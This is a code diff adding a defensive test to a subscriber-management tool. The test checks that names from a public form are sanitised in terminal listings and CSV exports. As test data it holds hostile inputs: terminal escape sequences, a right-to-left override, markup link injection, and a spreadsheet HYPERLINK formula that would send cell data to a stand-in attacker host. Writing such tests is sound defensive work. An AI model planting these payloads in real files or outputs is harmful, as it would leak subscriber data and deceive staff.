@@ -226,3 +226,36 @@ def test_demo_subscribers_file_imports(env: tuple[Config, Store]) -> None:
     demo = Path(__file__).resolve().parent.parent / "pressreview" / "demo" / "subscribers.csv"
     report = import_subscribers(store, demo, actor="demo")
     assert report.added > 0 and not report.bad
+
+
+def test_hostile_names_neither_drive_the_terminal_nor_the_spreadsheet(
+    env: tuple[Config, Store], cli: Callable[..., Any], tmp_path: Path
+) -> None:
+    """A name comes from the public form: escape sequences would retitle or clear
+    the staff's terminal, rich markup would make links, and a CSV cell starting
+    with "=" is a spreadsheet formula."""
+    config, store = env
+    escapes = "\x1b]0;PWNED\x07\x1b[2J\x1b[31mRouge\x1b[0m \u202eexe.txt"
+    add_subscriber(store, "marie@example.fr", name=escapes, actor="claire")
+    add_subscriber(store, "karim@example.org", name="[link=https://evil.example]Karim[/link]",
+                   actor="claire")  # fmt: skip
+    formula = '=HYPERLINK("http://evil.example/?"&A2,"Click")'
+    add_subscriber(store, "jo@example.org", name=formula, actor="claire")
+    add_subscriber(store, "+33@example.org", name="@SUM(1+1)", actor="claire")
+    assert get_subscriber(store, "marie@example.fr").name == "]0;PWNED[2J[31mRouge[0m exe.txt"
+    listed = cli(config, "subscribers", "list").output
+    assert "\x1b" not in listed and "\x07" not in listed
+    assert "[link=https://evil.example]Karim[/link]" in listed  # shown as typed, not a link
+    exported = cli(config, "subscribers", "export", "--csv").output
+    rows = {r["email"]: r for r in csv.DictReader(io.StringIO(exported))}
+    assert rows["jo@example.org"]["name"] == "'" + formula
+    assert rows["'+33@example.org"]["name"] == "'@SUM(1+1)"
+    assert rows["karim@example.org"]["name"].startswith("[link=")  # not a formula: as is
+    # The quote is the export's: importing the file gives the names back as they were.
+    for email in ("jo@example.org", "+33@example.org"):
+        remove_subscriber(store, email, actor="claire", forget=True)
+    path = tmp_path / "export.csv"
+    path.write_text(exported, encoding="utf-8")
+    import_subscribers(store, path, actor="claire")
+    assert get_subscriber(store, "jo@example.org").name == formula
+    assert get_subscriber(store, "+33@example.org").name == "@SUM(1+1)"
